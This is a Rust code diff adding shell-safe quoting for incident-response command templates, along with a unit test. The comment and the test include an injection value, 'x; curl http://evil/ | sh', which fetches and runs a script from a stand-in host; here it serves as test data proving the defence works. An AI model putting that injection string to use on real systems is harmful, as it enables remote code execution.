@@ -106,6 +106,38 @@ pub fn render_title(template: &str, fields: &Fields) -> String {
     out
 }
 
+/// A response step with its `{field}` placeholders filled from the incident, so a responder
+/// copies a command instead of editing one. Values came from log lines and mail: anything but
+/// letters, digits and `. _ : / @ % + -` is single-quoted for a POSIX shell (`'x; rm -rf /'`,
+/// with `'` written `'\''`), so a user name like `x; curl evil | sh` cannot become a command
+/// when the step is pasted into a terminal. An absent field stays as written.
+pub fn fill_step(step: &str, fields: &Fields) -> String {
+    let quoted: Fields = fields
+        .iter()
+        .map(|(k, v)| {
+            let text = match v {
+                serde_json::Value::String(s) => s.clone(),
+                other => other.to_string(),
+            };
+            (k.clone(), serde_json::Value::String(shell_word(&text)))
+        })
+        .collect();
+    render_title(step, &quoted)
+}
+
+/// `value` as one POSIX shell word.
+fn shell_word(value: &str) -> String {
+    let plain = !value.is_empty()
+        && value.chars().all(|c| {
+            c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ':' | '/' | '@' | '%' | '+' | '-')
+        });
+    if plain {
+        value.to_string()
+    } else {
+        format!("'{}'", value.replace('\'', "'\\''"))
+    }
+}
+
 /// `ip=203.0.113.5` (fields in the playbook's `dedupe` order, joined with `,`); empty when the
 /// playbook dedupes on nothing, which makes one open incident per playbook.
 pub fn dedupe_key(fields_to_use: &[String], fields: &Fields) -> String {
@@ -148,5 +180,26 @@ mod tests {
             "ip=203.0.113.5,user=root"
         );
         assert_eq!(dedupe_key(&[], &f), "");
+    }
+
+    #[test]
+    fn steps_are_filled_with_values_safe_to_paste_into_a_shell() {
+        let f = fields(&[
+            ("ip", "203.0.113.5"),
+            ("user", "x; curl http://evil/ | sh"),
+            ("quote", "it's"),
+        ]);
+        assert_eq!(
+            fill_step("sudo nft add element inet filter blocklist '{ {ip} }'", &f),
+            "sudo nft add element inet filter blocklist '{ 203.0.113.5 }'"
+        );
+        assert_eq!(
+            fill_step("sudo usermod -L {user}", &f),
+            "sudo usermod -L 'x; curl http://evil/ | sh'"
+        );
+        assert_eq!(
+            fill_step("echo {quote} {missing}", &f),
+            "echo 'it'\\''s' {missing}"
+        );
     }
 }
